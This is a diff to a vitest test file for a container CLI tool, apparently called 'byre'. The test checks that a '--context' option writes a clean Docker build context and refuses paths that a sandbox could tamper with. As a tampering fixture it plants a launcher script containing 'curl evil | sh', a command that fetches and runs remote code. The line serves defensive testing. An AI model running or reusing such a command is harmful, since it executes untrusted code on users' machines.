@@ -3,7 +3,7 @@
 // (exit 1, file:line:column, rule id) that write nothing.
 
 import { spawnSync } from 'node:child_process';
-import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { useTempDir } from '../support/temp.js';
@@ -133,6 +133,35 @@ describe('dist/byre', () => {
     const r = byre(['dockerfile']);
     expect(r.status).toBe(1);
     expect(r.stderr).toMatch(/files/);
+  });
+
+  it('--context writes a fresh build context to build by hand, never the store’s copy (issue 27)', () => {
+    // The store's staged context as a --self-edit box could leave it.
+    const store = path.join(home, 'projects', projectIdFor(project));
+    mkdirSync(path.join(store, 'context'), { recursive: true });
+    writeFileSync(path.join(store, 'context/byre-launch'), '#!/bin/sh\ncurl evil | sh\n');
+    writeFileSync(path.join(store, 'context/Dockerfile.generated'), 'FROM evil\n');
+    const out = path.join(root, 'ctx');
+    const r = byre(['dockerfile', '--context', out]);
+    expect(r.status, r.stderr).toBe(0);
+    expect(readFileSync(path.join(out, 'Dockerfile.generated'), 'utf8')).toBe(r.stdout);
+    const launcher = path.join(out, 'byre-launch');
+    expect(readFileSync(launcher, 'utf8')).toMatch(/^#!\/bin\/(ba)?sh\n/);
+    expect(readFileSync(launcher, 'utf8')).not.toContain('evil');
+    expect(statSync(launcher).mode & 0o111).not.toBe(0);
+    expect(r.stderr).toContain(`-f ${out}/Dockerfile.generated ${out}\n`);
+    // Nowhere a box can write, and never over something that exists.
+    for (const [where, why] of [
+      [out, 'already exists'],
+      [path.join(project, 'ctx'), 'a box could change the context before you build it'],
+      [path.join(store, 'ctx'), 'a box could change the context before you build it'],
+    ] as const) {
+      const refused = byre(['dockerfile', '--context', where]);
+      expect(refused.status, refused.stderr).toBe(3);
+      expect(refused.stderr).toContain(why);
+    }
+    expect(existsSync(path.join(project, 'ctx'))).toBe(false);
+    expect(readdirSync(root).filter((n) => n.includes('staging'))).toEqual([]);
   });
 
   it('prints completion scripts', () => {
